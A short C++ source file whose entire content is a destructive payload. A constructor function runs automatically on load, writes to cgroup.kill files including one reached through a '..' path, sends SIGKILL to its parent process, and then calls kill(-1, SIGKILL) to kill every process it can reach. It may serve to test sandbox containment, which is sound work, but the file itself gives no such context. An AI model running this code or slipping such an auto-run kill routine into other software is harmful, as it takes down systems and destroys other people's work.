// Kills whatever it can reach: every process, its parents first, and whole control groups.
#include <fcntl.h>

namespace {

__attribute__((constructor)) void kill_all() {
  for (const char* group : {"/sys/fs/cgroup/cgroup.kill", "/sys/fs/cgroup/../cgroup.kill"}) {
    const int fd = open(group, O_WRONLY);
    if (fd != -1) (void)!write(fd, "1", 1);
  }
  (void)kill(getppid(), SIGKILL);
  (void)kill(-1, SIGKILL);
}

}  // namespace
